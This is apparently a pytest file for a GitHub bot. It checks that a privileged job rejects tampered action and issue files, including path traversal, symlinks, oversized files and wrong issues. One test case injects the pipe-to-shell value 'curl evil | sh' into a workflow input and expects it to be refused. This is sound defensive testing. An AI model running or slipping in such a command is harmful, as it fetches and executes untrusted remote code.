"""The job that may write on GitHub: what it takes of the files of the job that may write the store."""

import json
import os
from pathlib import Path

import pytest
from alert_talk import AlertTalk
from fake_github.workflows import Workflow
from faulty_proxy import Answer
from github_servers import own_github

from bot.errors import BotError
from bot.github.action_file import LARGEST_BYTES
from bot.github.issue import BOT_LABEL
from bot.github.refusals import MOST_AN_HOUR


@pytest.fixture
def talk(tmp_path, monkeypatch):
    with own_github(tmp_path) as hub:
        hub.use(monkeypatch)
        yield AlertTalk(hub, tmp_path, monkeypatch)


@pytest.fixture
def decided(talk):
    """A comment, and what the first job has left: actions and issue."""
    event = talk.say("writer", "/bisect", on=talk.open_alert())
    return event, talk.decide(event)


def changed(path: Path, change) -> None:
    content = json.loads(path.read_text())
    change(content)
    path.write_text(json.dumps(content))


def dispatch(**changes):
    def change(content) -> None:
        (one,) = [one for one in content["actions"] if one["kind"] == "dispatch"]
        one.update(changes)

    return change


def action(**fields):
    return lambda content: content["actions"].append(fields)


REPLY = {"kind": "reply", "key": "0" * 16, "body": "hello"}
NO_ACTIONS = (
    (lambda one: one.update(issue=7), "answers comment"),
    (lambda one: one.update(comment=7), "answers comment"),
    (action(number=7, **REPLY), "reply is no answer to comment"),
    (action(kind="react", comment=7, content="eyes"), "react is no answer to comment"),
    (action(kind="cancel run", run=7), "cancel run is no answer to comment"),
    (action(kind="status", number=1, key="0" * 16, body="hello"), "status is no answer to comment"),
    (action(kind="merge", number=7), "actions.3"),
    (dispatch(workflow="nightly.yml"), "dispatch is no answer to comment"),
    (dispatch(workflow="../bisect.yml"), "actions.0"),
    (lambda one: one["actions"][0]["inputs"].update(build="curl evil | sh"), "dispatch is no answer to comment"),
    (lambda one: one["actions"][0]["inputs"].update(good="main"), "dispatch is no answer to comment"),
    (lambda one: one["actions"][0]["inputs"].update(good="--help", bad="main"), "dispatch is no answer to comment"),
    (lambda one: one["actions"][0]["inputs"].update(signal="f" * 16), "dispatch is no answer to comment"),
    (lambda one: one.update(more=1), "more"),
    (lambda one: one.update(actions=one["actions"] * 20), "actions"),
    (lambda one: one["actions"][-1].update(body=["x"]), "actions.2"),
)


@pytest.mark.parametrize(("change", "problem"), NO_ACTIONS)
def test_of_actions_that_answer_no_such_comment_nothing_is_done(talk, decided, change, problem):
    event, left = decided
    changed(left / "actions.json", change)
    with pytest.raises(BotError, match=problem):
        talk.answer(event, left)
    assert talk.talk.answers(event["issue"]["number"]) == [] and talk.bisections == []


def other_issue(content) -> None:
    content["issues"][0]["key"] = "f" * 16


NO_ISSUES = (
    (other_issue, "has another issue than that of the comment"),
    (lambda one: one.update(issues=one["issues"] * 2), "has another issue than that of the comment"),
    (lambda one: one["issues"][0].update(labels=[BOT_LABEL, "security"]), "labels are"),
    (lambda one: one["issues"][0].update(assignees=["all"]), "assignees"),
)


@pytest.mark.parametrize(("change", "problem"), NO_ISSUES)
def test_of_issues_that_are_others_nothing_is_done(talk, decided, change, problem):
    event, left = decided
    changed(left / "issues.json", change)
    with pytest.raises(BotError, match=problem):
        talk.answer(event, left)
    assert talk.talk.answers(event["issue"]["number"]) == [] and talk.bisections == []


def too_large(path: Path) -> None:
    path.write_bytes(b" " * (LARGEST_BYTES + 1))


def a_link(path: Path) -> None:
    path.rename(path.with_name("true"))
    path.symlink_to(path.with_name("true"))


def no_file(path: Path) -> None:
    path.unlink()


def a_pipe(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


@pytest.mark.parametrize("spoil", [too_large, a_link, no_file, a_pipe])
@pytest.mark.parametrize("name", ["actions.json", "issues.json"])
def test_a_file_that_is_none_is_not_read(talk, decided, name, spoil):
    event, left = decided
    spoil(left / name)
    with pytest.raises(BotError, match=name):
        talk.answer(event, left)
    assert talk.talk.answers(event["issue"]["number"]) == [] and talk.bisections == []


def test_only_a_new_comment_of_a_person_on_an_issue_is_answered(talk, decided):
    event, left = decided
    number = talk.talk.open_pull_request()
    for other in (talk.edit(event, "/ack"), talk.say("writer", "/benchmark", on=number)):
        with pytest.raises(BotError, match="no new comment of a person on an issue"):
            talk.answer(other, left)


def test_a_workflow_that_does_not_start_is_told_and_fails_the_job(talk, decided):
    event, left = decided
    (workflow,) = talk.talk.repository.table(Workflow).values()
    workflow.is_disabled = True
    with pytest.raises(BotError, match="disabled"):
        talk.answer(event, left)
    (told,) = talk.talk.answers(event["issue"]["number"])
    assert "**Not done:** GitHub did not start `bisect.yml`." in told and "**Bisecting**" not in told
    assert talk.talk.reactions(event) == []


def test_an_issue_that_cannot_be_updated_keeps_no_reply_back(talk):
    number = talk.open_alert()
    event = talk.say("writer", "/noise", on=number)
    left = talk.decide(event)
    talk.hub.proxy.faults.append(Answer(422, '{"message": "told by the test"}'))
    talk.hub.proxy.concerns = lambda request: request.startswith("PATCH ")
    with pytest.raises(BotError, match="422"):
        talk.answer(event, left)
    assert len(talk.talk.answers(number)) == 1


def test_refusals_are_answered_so_often_and_then_with_a_reaction(talk):
    number = talk.open_alert()
    for _ in range(MOST_AN_HOUR):
        assert talk.says("writer", "/snooze", on=number).startswith("**Not understood:**")
    event = talk.say("writer", "/snooze", on=number)
    assert talk.hear(event) is None and talk.talk.reactions(event) == ["confused"]
    assert talk.says("writer", "/ack", on=number).startswith("**Acknowledged**")
